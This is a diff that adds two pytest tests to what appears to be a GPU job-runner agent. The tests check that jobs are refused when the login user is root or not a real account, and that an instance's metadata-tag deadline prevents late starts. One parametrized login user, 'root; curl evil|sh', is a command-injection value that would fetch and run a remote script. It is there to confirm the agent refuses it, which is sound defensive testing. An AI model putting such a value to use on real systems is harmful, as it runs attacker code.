@@ -18,6 +18,7 @@ import pytest
 
 from components.bootstrap import READY_UPLOAD_COMMANDS, instance_setup
 from gpulease.ephemeral.channel import BucketChannel
+from tests._bootstrap_support import MetadataServer, MetadataState, deadline_tags
 from tests._job_agent_support import (
     CHECKPOINT_URI,
     JOB_USER,
@@ -270,3 +271,36 @@ def _alive(pid: int) -> bool:
     with open(f"/proc/{pid}/stat") as fh:  # a zombie (exited, not yet reaped by init) is gone too
         return fh.read().split(") ")[-1][:1] != "Z"
 
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="the agent drops to the login user only when it runs as root")
+@pytest.mark.parametrize("user", ["root; curl evil|sh", "", "no-such-user-gpulease", "root"])
+def test_a_job_never_runs_as_root_when_the_login_user_is_not_a_real_account(
+    world, tmp_path: Path, agents, user: str
+) -> None:
+    s3, _, bin_dir, data = world
+    agent = start(agents, tmp_path, bin_dir, agent_settings(tmp_path, data, data_owner=user))
+    put_request(s3, "ci-8-abc", "id -u > whoami.txt; echo ran")
+    outcome = result(s3, "ci-8-abc")
+    why = "is root" if user == "root" else "is not an account on this instance"
+    assert outcome["exitCode"] == 125
+    assert outcome["note"] == f"not run: the login user {user!r} {why}; jobs never run as root"
+    assert log_text(s3, "ci-8-abc") == f"[gpulease] not run: the login user {user!r} {why}; jobs never run as root\n"
+    assert not (data / "whoami.txt").exists()
+    assert f"refused: the login user {user!r}" in agent.text()
+
+
+def test_the_instance_deadline_comes_from_its_tag_through_the_metadata_token(world, tmp_path: Path, agents) -> None:
+    s3, _, bin_dir, data = world
+    # The instance stops in 5 min 10 s: less its 5-minute final sync and twice the 30 s grace, too late to start.
+    soon = (datetime.now(UTC) + timedelta(minutes=5, seconds=10)).replace(microsecond=0)
+    state = MetadataState(cloud="aws", tags=deadline_tags(soon.timestamp()))
+    with MetadataServer(state) as server:
+        settings = agent_settings(tmp_path, data, metadata_url=server.url, kill_grace_seconds=30)
+        start(agents, tmp_path, bin_dir, settings)
+        put_request(s3, "ci-9-abc", "echo ran >> runs.txt", deadline=datetime.now(UTC) + timedelta(minutes=30))
+        outcome = result(s3, "ci-9-abc")
+    stop_at = (soon - timedelta(minutes=5, seconds=60)).strftime("%Y-%m-%dT%H:%M:%SZ")
+    assert outcome["exitCode"] == 125 and outcome["note"] == f"not run: too late (stop at {stop_at})"
+    assert not (data / "runs.txt").exists()
+    assert state.refused == [] and any(p.startswith("/latest/meta-data/tags/instance/") for _, p, _ in state.requests)
